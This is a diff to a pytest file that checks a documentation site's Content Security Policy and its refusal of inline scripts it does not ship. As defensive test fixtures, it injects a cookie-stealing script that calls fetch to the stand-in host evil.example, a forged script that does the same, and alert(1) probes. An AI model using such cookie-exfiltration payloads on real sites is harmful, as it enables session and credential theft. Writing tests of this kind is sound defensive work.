@@ -3,9 +3,13 @@ carries a policy that lets only the site's own files run."""
 from __future__ import annotations
 
 import re
+import subprocess
+import sys
+from pathlib import Path
 
+import material
 import pytest
-from conftest import ERROR_PAGES, html_pages, page_file, search_ready, site_pages
+from conftest import ERROR_PAGES, ROOT, html_pages, page_file, search_ready, site_pages
 
 pytestmark = pytest.mark.browser
 EVERY_PAGE = [url for _, url in site_pages()] + list(ERROR_PAGES)
@@ -53,7 +57,10 @@ def test_every_page_has_a_policy_that_allows_only_the_site(built_site):
         assert set(directives["script-src"].split()) - {"'self'"} <= set(re.findall(r"'sha256-[^']+'", policy))
         assert "unsafe-inline" not in policy and "unsafe-eval" not in policy
         assert directives["style-src"] == "'self'" and directives["font-src"] == "'self'"
-        assert directives["img-src"] == "'self' data:"
+        # data: images only for the theme's stylesheet icons (macros/site/security_policy.py)
+        assert directives["img-src"] in ("'self'", "'self' data:")
+        assert directives["object-src"] == "'none'" and directives["base-uri"] == "'none'"
+        assert directives["form-action"] == "'none'"
 
 
 def test_an_injected_inline_script_is_refused(page, site_url, built_site):
@@ -64,3 +71,33 @@ def test_an_injected_inline_script_is_refused(page, site_url, built_site):
                             document.body.appendChild(s); }""")
     assert page.evaluate("window.__injected") is None
     assert any("Content Security Policy" in m for m in messages)
+
+
+def test_only_the_scripts_the_site_ships_are_allowed(built_site):
+    from macros.site.security_policy import inline_scripts, is_known_script, script_hash
+    from macros.site.theme import INLINE_SCRIPT_TEMPLATES
+
+    dirs = (ROOT / "overrides", Path(material.__file__).parent / "templates")
+    seen = set()
+    for url in EVERY_PAGE:
+        source = (built_site / page_file(url)).read_text(encoding="utf-8")
+        policy = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', source).group(1)
+        for body in inline_scripts(source):
+            assert is_known_script(body, dirs) and script_hash(body) in policy
+            seen.add(body)
+    assert len(seen) >= len(INLINE_SCRIPT_TEMPLATES)
+    real = next(body for body in seen if "__md_scope" in body)
+    forged = re.sub(r'new URL\("[^"]*"', 'new URL(""+fetch("//evil.example")+""', real)
+    assert forged != real and not is_known_script(forged, dirs)
+    assert not is_known_script("alert(1)", dirs)
+    assert not is_known_script(real + ";alert(1)", dirs)
+
+
+def test_an_inline_script_in_a_page_fails_the_build_even_without_the_checks(project):
+    page = project / "docs/en/support.md"
+    page.write_text(page.read_text(encoding="utf-8") + '\n<script>fetch("https://evil.example/?c="+document.cookie)</script>\n',
+                    encoding="utf-8")
+    result = subprocess.run([sys.executable, "-m", "mkdocs", "build", "--strict", "-q", "-d", str(project / "out")],
+                            cwd=project, capture_output=True, text=True)
+    assert result.returncode != 0
+    assert "en/support.md: an inline script the site does not ship: fetch(" in result.stdout + result.stderr
